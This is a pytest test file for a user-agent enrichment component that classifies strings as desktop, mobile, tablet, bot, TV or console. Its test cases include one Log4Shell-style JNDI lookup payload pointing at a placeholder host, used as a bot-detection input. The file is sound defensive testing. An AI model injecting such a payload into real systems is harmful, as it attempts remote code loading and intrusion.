"""The device bolt on real user-agent strings from several vendors."""

from __future__ import annotations

import json
from collections import Counter, defaultdict
from pathlib import Path

import pydantic
import pytest
import ua_parser

from squall.component import ComponentContext
from squall.enrichment.device import FIELDS, DeviceBolt, classify
from squall.enrichment.device_class import class_from_hints
from squall.enrichment.device_models import ModelIndex

from .support import make_batch, make_event

# (name, user agent, device class, browser, os, device)
REAL_USER_AGENTS = [
    (
        "chrome-windows",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "desktop",
        "Chrome",
        "Windows",
        "Other",
    ),
    (
        "edge-windows",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
        "desktop",
        "Edge",
        "Windows",
        "Other",
    ),
    (
        "safari-macos",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
        "desktop",
        "Safari",
        "Mac OS X",
        "Mac",
    ),
    (
        "firefox-ubuntu",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "desktop",
        "Firefox",
        "Ubuntu",
        "Other",
    ),
    (
        "firefox-linux",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "desktop",
        "Firefox",
        "Linux",
        "Other",
    ),
    (
        "chrome-chromeos",
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "desktop",
        "Chrome",
        "Chrome OS",
        "Other",
    ),
    (
        "safari-iphone",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
        "mobile",
        "Mobile Safari",
        "iOS",
        "iPhone",
    ),
    (
        "chrome-pixel",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.113 Mobile Safari/537.36",
        "mobile",
        "Chrome Mobile",
        "Android",
        "Pixel 8",
    ),
    (
        "samsung-internet-galaxy-s23",
        "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
        "mobile",
        "Samsung Internet",
        "Android",
        "Samsung SM-S918B",
    ),
    (
        "chrome-android-reduced-ua",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
        "mobile",
        "Chrome Mobile",
        "Android",
        "K",
    ),
    (
        "firefox-android-phone",
        "Mozilla/5.0 (Android 13; Mobile; rv:125.0) Gecko/125.0 Firefox/125.0",
        "mobile",
        "Firefox Mobile",
        "Android",
        "Generic Smartphone",
    ),
    (
        "app-ios-webview",
        "PiStats/3.2.1 (iPhone; iOS 17.4; Scale/3.00)",
        "mobile",
        "Mobile Safari UI/WKWebView",
        "iOS",
        "iPhone",
    ),
    (
        "app-android-dalvik",
        "Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)",
        "mobile",
        "Android",
        "Android",
        "Samsung SM-G991B",
    ),
    (
        "edge-windows-phone",
        "Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15063",
        "mobile",
        "Edge Mobile",
        "Windows Phone",
        "Lumia 950",
    ),
    (
        "opera-mini-symbian",
        "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54",
        "mobile",
        "Opera Mini",
        "Symbian OS",
        "Generic Smartphone",
    ),
    (
        "safari-ipad",
        "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
        "tablet",
        "Mobile Safari",
        "iOS",
        "iPad",
    ),
    (
        "chrome-galaxy-tab-s9",
        "Mozilla/5.0 (Linux; Android 13; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "tablet",
        "Chrome",
        "Android",
        "SM-X710",
    ),
    (
        "chrome-galaxy-tab-s7",
        "Mozilla/5.0 (Linux; Android 11; SM-T870) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36",
        "tablet",
        "Chrome",
        "Android",
        "SM-T870",
    ),
    (
        "silk-kindle-fire",
        "Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/124.2.6 like Chrome/124.0.6367.179 Safari/537.36",
        "tablet",
        "Amazon Silk",
        "Android",
        "Kindle",
    ),
    (
        "kindle-e-reader",
        "Mozilla/5.0 (Linux; U; en-US) AppleWebKit/528.5+ (KHTML, like Gecko, Safari/528.5+) Version/4.0 Kindle/3.0 (screen 600x800; rotate)",
        "tablet",
        "Kindle",
        "Kindle",
        "Kindle",
    ),
    (
        "chrome-nexus-7",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 7 Build/MOB30X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.107 Safari/537.36",
        "tablet",
        "Chrome",
        "Android",
        "Asus Nexus 7",
    ),
    (
        "firefox-android-tablet",
        "Mozilla/5.0 (Android 13; Tablet; rv:125.0) Gecko/125.0 Firefox/125.0",
        "tablet",
        "Firefox Mobile",
        "Android",
        "Generic Tablet",
    ),
    (
        "googlebot",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "bot",
        "Googlebot",
        "Other",
        "Spider",
    ),
    (
        "googlebot-smartphone",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.118 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "bot",
        "Googlebot",
        "Android",
        "Spider",
    ),
    (
        "bingbot",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "bot",
        "bingbot",
        "Other",
        "Spider",
    ),
    (
        "yandexbot",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        "bot",
        "YandexBot",
        "Other",
        "Spider",
    ),
    (
        "facebook-crawler",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "bot",
        "FacebookBot",
        "Other",
        "Spider",
    ),
    (
        "gptbot",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
        "bot",
        "GPTBot",
        "Other",
        "Spider",
    ),
    ("curl", "curl/8.5.0", "bot", "curl", "Other", "Other"),
    ("wget", "Wget/1.21.4", "bot", "Wget", "Other", "Other"),
    ("python-requests", "python-requests/2.31.0", "bot", "Python Requests", "Other", "Other"),
    ("go-http-client", "Go-http-client/1.1", "bot", "Go-http-client", "Other", "Other"),
    (
        "headless-chrome",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36",
        "bot",
        "HeadlessChrome",
        "Linux",
        "Other",
    ),
    (
        "playstation-5",
        "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
        "console",
        None,
        "Other",
        "PlayStation 5",
    ),
    (
        "samsung-smart-tv",
        "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36",
        "tv",
        "Samsung Internet",
        "Tizen",
        "Samsung SMART-TV",
    ),
    ("okhttp-app-client", "okhttp/4.12.0", "other", "okhttp", "Other", "Other"),
    ("unparseable", "xyz", "other", "Other", "Other", "Other"),
]


@pytest.fixture(scope="module")
def bolt() -> DeviceBolt:
    b = DeviceBolt(DeviceBolt.Config(id="device", type="device"), ComponentContext("test"))
    b.open(None)
    return b


@pytest.mark.parametrize(
    ("name", "ua", "device_class", "browser", "os", "device"),
    REAL_USER_AGENTS,
    ids=[row[0] for row in REAL_USER_AGENTS],
)
def test_real_user_agents(bolt, name, ua, device_class, browser, os, device):
    [event] = bolt.process([make_event({"user_agent": ua})]).streams["default"]
    block = event.value["device"]
    assert block["device_class"] == device_class
    assert block["is_bot"] is (device_class == "bot")
    if browser is not None:
        assert block["browser"] == browser
    assert (block["os"], block["device"]) == (os, device)


def test_versions_brand_and_model(bolt):
    ua = REAL_USER_AGENTS[6][1]  # iPhone
    [event] = bolt.process([make_event({"user_agent": ua})]).streams["default"]
    assert event.value["device"] == {
        "browser": "Mobile Safari",
        "browser_version": "17.4.1",
        "os": "iOS",
        "os_version": "17.4.1",
        "device": "iPhone",
        "device_brand": "Apple",
        "device_model": "iPhone",
        "device_class": "mobile",
        "is_bot": False,
    }


def test_every_block_has_the_same_keys(bolt):
    out = bolt.process(
        make_batch([{"user_agent": REAL_USER_AGENTS[0][1]}, {"user_agent": None}, {}])
    )
    assert [tuple(e.value["device"]) for e in out.streams["default"]] == [FIELDS] * 3


@pytest.mark.parametrize("value", [None, "", "   ", 42, ["ua"], "MISSING"])
def test_missing_or_empty_user_agent_gives_unknown_values(bolt, value):
    payload = {} if value == "MISSING" else {"user_agent": value}
    out = bolt.process([make_event(payload)])
    assert not out.streams.get("error")
    block = out.streams["default"][0].value["device"]
    assert block["device_class"] == "unknown"
    assert (block["browser"], block["os"], block["device"]) == ("unknown", "unknown", "unknown")
    assert block["is_bot"] is False


def test_each_distinct_user_agent_is_parsed_once_per_batch_and_then_cached():
    b = DeviceBolt(DeviceBolt.Config(id="device", type="device"), ComponentContext("test"))
    b.open(None)
    uas = [row[1] for row in REAL_USER_AGENTS[:5]]
    batch = make_batch([{"user_agent": uas[i % 5]} for i in range(100)])
    out = b.process(batch)
    assert len(out.streams["default"]) == 100
    assert b.parsed == 5
    b.process(make_batch([{"user_agent": ua} for ua in uas]))
    assert b.parsed == 5


def test_long_user_agents_are_truncated_before_parsing():
    b = DeviceBolt(
        DeviceBolt.Config(id="device", type="device", max_length=64), ComponentContext("test")
    )
    b.open(None)
    chrome = REAL_USER_AGENTS[0][1]
    # The Chrome token lies after character 64: truncated, only the Windows part remains.
    [event] = b.process([make_event({"user_agent": chrome})]).streams["default"]
    assert event.value["device"]["os"] == "Windows"
    assert event.value["device"]["browser"] != "Chrome"
    # Two strings equal in their first 64 characters are one cache entry, parsed once.
    b.process(
        make_batch([{"user_agent": chrome + " A" * 5000}, {"user_agent": chrome + " B" * 5000}])
    )
    assert b.parsed == 1


def test_cache_is_bounded():
    b = DeviceBolt(
        DeviceBolt.Config(id="device", type="device", cache_size=3), ComponentContext("test")
    )
    b.open(None)
    b.process(make_batch([{"user_agent": row[1]} for row in REAL_USER_AGENTS]))
    assert len(b._cache) == 3


def test_blocks_are_not_shared_between_events(bolt):
    ua = REAL_USER_AGENTS[0][1]
    a, b = bolt.process(make_batch([{"user_agent": ua}, {"user_agent": ua}])).streams["default"]
    a.value["device"]["browser"] = "changed"
    assert b.value["device"]["browser"] == "Chrome"


def test_ua_field_and_target_are_configurable():
    b = DeviceBolt(
        DeviceBolt.Config(id="d", type="device", ua_field="http.headers.ua", target="client"),
        ComponentContext("test"),
    )
    b.open(None)
    [event] = b.process([make_event({"http": {"headers": {"ua": "curl/8.5.0"}}})]).streams[
        "default"
    ]
    assert event.value["client"]["device_class"] == "bot"


def test_payload_that_is_not_an_object_fails_only_that_event(bolt):
    out = bolt.process([make_event("text", 1), make_event({"user_agent": "curl/8.5.0"}, 2)])
    assert [e.failure.reason for e in out.streams["error"]] == ["payload is not a JSON object"]
    assert len(out.streams["default"]) == 1


@pytest.mark.parametrize(
    ("ua", "os", "device", "brand", "model", "expected"),
    [
        # A phone brand whose name contains "bot" is identified as a device, so not a bot.
        (
            "Mozilla/5.0 (Linux; Android 11; CUBOT X30) Mobile",
            "Android",
            "CUBOT X30",
            "Cubot",
            "X30",
            "mobile",
        ),
        ("SomeCrawler/1.0 (+https://example.com/crawler)", "Other", "Other", None, None, "bot"),
        (
            "Mozilla/5.0 (Linux; Android 9; BRAVIA 4K GB ATV3) Safari/537.36",
            "Android",
            "Other",
            None,
            None,
            "tv",
        ),
        (
            "Mozilla/5.0 (Linux; Android 12; Lenovo TB-X606F) Safari/537.36",
            "Android",
            "Lenovo TB-X606F",
            "Lenovo",
            "TB-X606F",
            "tablet",
        ),
    ],
)
def test_classification_rules(ua, os, device, brand, model, expected):
    assert classify(ua, "Chrome", os, device, brand, model) == expected


def test_invalid_options_are_rejected():
    with pytest.raises(pydantic.ValidationError, match="greater than or equal to 16"):
        DeviceBolt.Config(id="d", type="device", max_length=3)
    with pytest.raises(pydantic.ValidationError, match="Extra inputs"):
        DeviceBolt.Config(id="d", type="device", field="ua")


# --- agreement with labelled corpora ----------------------------------------------------------
# Stratified samples (seed 22) of two corpora of benchmarks/ua_corpus.py, each labelled by the
# maintainers of another detector; the full corpora are scored by `python benchmarks/ua_corpus.py
# run`, which prints the confusion matrix (docs/enrichment.md, "How well it classifies").
# - ua_sample_browscap.tsv (3,146 rows): browscap's test fixtures (MIT), the independent corpus:
#   no rule of squall was written from it (the model database comes from Matomo's project).
# - ua_sample.tsv (3,052 rows): Matomo Device Detector's test fixtures (LGPL-3.0-or-later), the
#   development corpus the rules were written against (not independent; a regression check).
# Floors: the sample's measured value minus ~2 points of slack for rule-list updates (console:
# one more miss of 17). The issue's targets (>= 95 % overall, >= 90 % per class, bot recall
# >= 95 % at precision >= 99 %) are not all reached: see docs/enrichment.md.
SAMPLES = {
    "ua_sample_browscap.tsv": (
        {"mobile": 0.955, "tablet": 0.915, "desktop": 0.95, "tv": 0.68, "console": 0.64},
        0.79,
        0.94,
    ),
    "ua_sample.tsv": (
        {"mobile": 0.975, "tablet": 0.935, "desktop": 0.91, "tv": 0.89, "console": 0.70},
        0.955,
        0.955,
    ),
}


@pytest.mark.parametrize("engine", ["auto", "re2"])
@pytest.mark.parametrize("sample", sorted(SAMPLES))
def test_device_class_agrees_with_a_labelled_corpus(sample, engine):
    floors, recall_floor, precision_floor = SAMPLES[sample]
    rows = []
    for line in (Path(__file__).parent / "data" / sample).read_text("utf-8").splitlines():
        if line and not line.startswith("#"):
            label, ua, headers = line.split("\t")
            rows.append(
                (label, {"user_agent": ua, "headers": json.loads(headers) if headers else {}})
            )
    bolt = DeviceBolt(
        DeviceBolt.Config(id="device", type="device", hints_field="headers", engine=engine),
        ComponentContext("test"),
    )
    bolt.open(None)
    events = bolt.process(make_batch([value for _, value in rows])).streams["default"]
    matrix: dict[str, Counter] = defaultdict(Counter)
    for (label, _), event in zip(rows, events, strict=True):
        matrix[label][event.value["device"]["device_class"]] += 1
    agreement = {label: matrix[label][label] / sum(matrix[label].values()) for label in floors}
    flagged = sum(counts["bot"] for counts in matrix.values())
    recall = matrix["bot"]["bot"] / sum(matrix["bot"].values())
    precision = matrix["bot"]["bot"] / flagged
    assert {k: round(v, 3) for k, v in agreement.items() if v < floors[k]} == {}, dict(matrix)
    assert recall >= recall_floor, (recall, dict(matrix["bot"]))
    assert precision >= precision_floor, (precision, {k: c["bot"] for k, c in matrix.items()})


@pytest.mark.parametrize(
    ("hints", "expected"),
    [
        ({"Sec-CH-UA-Form-Factors": '"Tablet"'}, "tablet"),
        ({"sec-ch-ua-form-factors": '"Desktop", "XR"', "Sec-CH-UA-Mobile": "?1"}, "desktop"),
        ({"Sec-CH-UA-Mobile": "?1", "Sec-CH-UA-Platform": '"Android"'}, "mobile"),
        ({"Sec-CH-UA-Mobile": "?0", "Sec-CH-UA-Platform": '"Android"'}, "tablet"),
        ({"Sec-CH-UA-Mobile": "?0", "Sec-CH-UA-Platform": '"macOS"'}, "desktop"),
        ({"Sec-CH-UA-Mobile": "?0"}, None),  # not a phone, but which device is unknown
        ({"mobile": False, "platform": "Windows"}, "desktop"),  # navigator.userAgentData fields
        ({"formFactors": ["Mobile"]}, "mobile"),
        ({"Sec-CH-UA-Mobile": "maybe"}, None),
        ({}, None),
    ],
)
def test_client_hints_name_the_class(hints, expected):
    assert class_from_hints(hints) == expected


def test_client_hints_decide_the_class_of_a_non_bot_only(bolt_with_hints):
    # Chrome's reduced user agent on an Android tablet: "Android 10; K" and no "Mobile"
    # decides nothing by itself; the hints do. A bot or a TV keeps the class its string names.
    reduced = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
    desktop_hints = {"Sec-CH-UA-Mobile": "?0", "Sec-CH-UA-Platform": '"Windows"'}
    values = [
        {"user_agent": reduced, "hints": {"Sec-CH-UA-Form-Factors": '"Tablet"'}},
        {"user_agent": reduced, "hints": {"Sec-CH-UA-Mobile": "?1"}},
        {"user_agent": reduced, "hints": "not an object"},
        {
            "user_agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "hints": desktop_hints,
        },
        {
            "user_agent": "Mozilla/5.0 (Linux; Android 9; BRAVIA 4K GB ATV3) Safari/537.36",
            "hints": desktop_hints,
        },
    ]
    events = bolt_with_hints.process(make_batch(values)).streams["default"]
    classes = [e.value["device"]["device_class"] for e in events]
    assert classes == ["tablet", "mobile", "tablet", "bot", "tv"]
    assert bolt_with_hints.parsed == 3  # the hints do not split the cache per event


@pytest.fixture
def bolt_with_hints() -> DeviceBolt:
    b = DeviceBolt(
        DeviceBolt.Config(id="device", type="device", hints_field="hints"), ComponentContext("test")
    )
    b.open(None)
    return b


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        # bots named by no bot word, from the crawler-user-agents list
        ("ApacheBench/2.3", "bot"),
        ("Datadog Agent/5.10.1", "bot"),
        ("FeedBurner/1.0 (http://www.FeedBurner.com)", "bot"),
        ("ELB-HealthChecker/2.0", "bot"),
        ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "bot"),
        ("Python/3.11 aiohttp/3.9.1", "bot"),
        # bot names appended to a browser string
        (
            "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
            "bot",
        ),
        (
            "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
            "bot",
        ),
        (
            "Mozilla/5.0 (compatible; Storebot-Google/1.0; +http://www.google.com/storebot.html)",
            "bot",
        ),
        # phone models and apps whose names look like bots
        (
            "Mozilla/5.0 (Linux; Android 13; Cubot X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
            "mobile",
        ),
        ("okhttp/4.12.0", "other"),
        # desktops the old rules called other, and Android on laptops
        ("Microsoft Office/16.0 (Macintosh; Mac OS X 10.15.7; Desktop)", "desktop"),
        (
            "Mozilla/5.0 (Linux; Android 9; HP Chromebook 13 G1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.162 Safari/537.36",
            "desktop",
        ),
        # tablets that the "Android browser means mobile" rule called mobile
        (
            "Mozilla/5.0 (Linux; U; Android 4.0.4; fr-fr; MID74C Build/IML74K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Safari/534.30",
            "tablet",
        ),
        # watches, headsets, set-top boxes
        ("atc/1.0 watchOS/6.0 model/Watch4,2 hwp/t8006 build/17R575 (6; dt:191)", "other"),
        (
            "Mozilla/5.0 (X11; Linux x86_64; Quest 2) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/22.2.0 SamsungBrowser/4.0 Chrome/106.0.5249.181 VR Safari/537.36",
            "other",
        ),
        (
            "Mozilla/5.0 (Linux; Android 9; 43U600KD Build/PTT1.190222.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/97.0.4692.87 Safari/537.36",
            "tv",
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; XBOX_ONE_ED) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.79 Safari/537.36 Edge/14.14393",
            "console",
        ),
    ],
)
def test_cases_the_issue_names(bolt, ua, expected):
    [event] = bolt.process([make_event({"user_agent": ua})]).streams["default"]
    assert event.value["device"]["device_class"] == expected
    assert event.value["device"]["is_bot"] is (expected == "bot")


def test_python_re_fallback_classifies_like_the_rust_regex_sets(monkeypatch):
    """Without ua-parser-rs the same patterns run in Python's re, and with ``engine: re2`` in
    google-re2: same classes on the sample."""
    from squall.enrichment import device_class
    from squall.enrichment.device import build_resolver

    resolver = build_resolver()
    rust = device_class.DeviceClassifier()
    re2 = device_class.DeviceClassifier(engine="re2")
    monkeypatch.setattr(
        device_class, "_matcher", lambda groups, engine="auto": device_class.re_matcher(groups)
    )
    python = device_class.DeviceClassifier()
    python.load()
    lines = [
        line.split("\t")[1]
        for line in (Path(__file__).parent / "data" / "ua_sample.tsv")
        .read_text("utf-8")
        .splitlines()[1:]
    ]
    differ = []
    for ua in lines[::6]:
        r = resolver(ua, ua_parser.Domain.ALL)
        parsed = (
            ua,
            r.user_agent.family if r.user_agent else "Other",
            r.os.family if r.os else "Other",
            r.device.family if r.device else "Other",
            r.device.brand if r.device else None,
            r.device.model if r.device else None,
        )
        if not rust.classify(*parsed) == re2.classify(*parsed) == python.classify(*parsed):
            differ.append(ua)
    assert differ == []


@pytest.mark.parametrize(
    ("ua", "os", "expected"),
    [
        # OS names ua-parser emits that the old lists missed
        (
            "Mozilla/5.0 (Symbian/3; Series60/5.2 NokiaN8-00/012.002; Profile/MIDP-2.1 Configuration/CLDC-1.1 ) AppleWebKit/533.4 (KHTML, like Gecko) NokiaBrowser/7.3.0 Safari/533.4 3gpp-gba",
            "Symbian^3",
            "mobile",
        ),
        (
            "Nokia2690/2.0 (06.97) Profile/MIDP-2.1 Configuration/CLDC-1.1",
            "Nokia Series 40",
            "mobile",
        ),
        ("Mozilla/5.0 (compatible; Polaris 6.2; Brew MP 1.0.2)", "Brew MP", "mobile"),
        ("server-bag [Watch OS,8.0,19R346,Watch6,2]", "WatchOS", "other"),
        ("AppleTV11,1/11.1", "tvOS", "tv"),
        (
            "Mozilla/5.0 (X11; Kubuntu; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
            "Kubuntu",
            "desktop",
        ),
        (
            "Mozilla/5.0 (X11; Mageia; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
            "Mageia",
            "desktop",
        ),
    ],
)
def test_os_names_ua_parser_emits_are_classified(ua, os, expected):
    assert classify(ua, "Other", os, "Other", None, None) == expected


def test_rules_compile_at_first_use_once_per_process(monkeypatch):
    """open() compiles nothing; the first user agent builds the resolver and the class rules,
    and every other device bolt of the process uses the same ones."""
    from squall.enrichment import device
    from squall.enrichment.device_class import DeviceClassifier

    monkeypatch.setattr(device, "_shared_resolvers", {})
    monkeypatch.setattr(device, "_default_classifier", DeviceClassifier())
    first, second = (
        DeviceBolt(DeviceBolt.Config(id=name, type="device"), ComponentContext("test"))
        for name in ("a", "b")
    )
    first.open(None)
    second.open(None)
    assert device._shared_resolvers == {}
    assert first._classifier is second._classifier is device.shared_classifier()
    assert not first._classifier._loaded
    ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    assert first.parse(ua)["device_class"] == "bot"
    assert second.parse(ua)["device_class"] == "bot"
    assert len(device._shared_resolvers) == 1
    assert first._resolver is second._resolver is device.shared_resolver()
    assert first._classifier._loaded


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        # an Android set-top box named "…BOX" is a TV, not an Xbox; a Chromecast is a TV
        (
            "Mozilla/5.0 (Linux; Android 9; ACMEBOX-X1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "tv",
        ),
        (
            "Mozilla/5.0 (Linux; Android 12; Chromecast Build/STTE.230319.008.R3; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36",
            "tv",
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edge/20.02",
            "console",
        ),
        # no "Mobile" means a tablet only in a whole browser string, not in one cut short
        (
            "Mozilla/5.0 (Linux; Android 11; ABC-123 Build/RKQ1.201112.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/96.0.4664.45",
            "mobile",
        ),
        (
            "Mozilla/5.0 (Linux; Android 11; ABC-123 Build/RKQ1.201112.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/96.0.4664.45 Safari/537.36",
            "tablet",
        ),
        # a Galaxy Z Fold opened drops "Mobile"; Samsung's phone series says what it is
        (
            "Mozilla/5.0 (Linux; Android 14; SM-F946B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "mobile",
        ),
        (
            "Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "tablet",
        ),
        # tools that say what they do, contact addresses, probes, Google's "Google-…" fetchers
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 ExampleDiagnostics/1.0",
            "bot",
        ),
        ("acme-survey/0.3 (contact: ops@example.org)", "bot"),
        ("${jndi:ldap://probe.example/a}", "bot"),
        ("Google-Safety", "bot"),
        # and the same words do not make a phone's or an app's string a bot
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.33.117]",
            "mobile",
        ),
        (
            "Mozilla/5.0 (Linux; Android 13; Scanner X2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
            "mobile",
        ),
    ],
)
def test_general_rules_for_boxes_cut_strings_phone_series_and_tools(bolt, ua, expected):
    [event] = bolt.process([make_event({"user_agent": ua})]).streams["default"]
    assert event.value["device"]["device_class"] == expected


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        (
            "Mozilla/5.0 (AmigaOS; U; AmigaOS 4.1; en-US; rv:1.8.1.21) Gecko/20090303 Example/1.0",
            "desktop",
        ),
        ("Mozilla/5.0 (OS/2; Warp 4.5; rv:45.0) Gecko/20100101 Firefox/45.0", "desktop"),
        ("ExampleLauncher/2.1 (win10 x64)", "desktop"),
        ("SAMPLE-X100/1.0 UP.Browser/6.2.3 (GUI) MMP/2.0", "mobile"),
        ("[FBAN/FB4A;FBAV/400.0.0.1;FBPN/com.facebook.katana;FBDV/Example-1;FBSV/12;]", "mobile"),
    ],
)
def test_systems_and_phone_software_ua_parser_does_not_name(bolt, ua, expected):
    [event] = bolt.process([make_event({"user_agent": ua})]).streams["default"]
    assert event.value["device"]["device_class"] == expected


def class_of(bolt: DeviceBolt, ua: str) -> str:
    """The device class the bolt gives one event with user agent ``ua``."""
    [event] = bolt.process(make_batch([{"user_agent": ua}])).streams["default"]
    return event.value["device"]["device_class"]


# --- device models (Matomo's device database) ---------------------------------------------------
INDEX_DATA = [
    ("n", "tab 7", "tablet"),
    ("n", "lenovo a7600-h", "tablet"),
    ("p", "sm-t", "tablet"),
    ("p", "sm-t1", "mobile"),
    ("p", "yt3-x90", "tablet"),
    ("p", "tx18", "tv"),
]


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        ("Dalvik/2.1.0 (Linux; U; Android 7.0; SM-T819Y Build/NRD90M)", "tablet"),
        ("Dalvik/2.1.0 (Linux; U; Android 7.0; SM-T115 Build/NRD90M)", "mobile"),  # longest wins
        ("Mozilla/5.0 (Linux; Android 6.0.1; Lenovo YT3-X90L Build/MMB29M) Mobile", "tablet"),
        ("Mozilla/5.0 (Linux; Android 4.2; TAB 7 Build/JDQ39) Mobile", "tablet"),  # case folded
        ("Mozilla/5.0 (Linux; Android 4.2; TAB 7X Build/JDQ39) Mobile", None),  # a name ends
        ("Mozilla/5.0 (Linux; Android 4.2; TAB 7)", "tablet"),
        ("Mozilla/5.0 (Linux; Android 4.2; XSM-T819 Build/JDQ39)", None),  # inside a word
        ("Mozilla/5.0 (Linux; Android 4.2; X-TX18 Build/JDQ39)", None),  # after a hyphen
        ("Mozilla/5.0 (Linux; Android 4.4.2; Lenovo A7600-H Build/KOT49H)", "tablet"),
        ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)", None),
    ],
)
def test_model_index_finds_a_model_where_one_can_start(ua, expected):
    index = ModelIndex(INDEX_DATA)
    assert index.lookup(ua) == expected


def test_bot_names_are_words_found_in_the_same_pass():
    index = ModelIndex([*INDEX_DATA, ("n", "seobility", "bot"), ("p", "orangebot", "bot")])
    assert index.scan("Mozilla/5.0 (compatible; OrangeBot/2.0)") == (
        len("Mozilla/5.0 (compatible; "),
        None,
    )
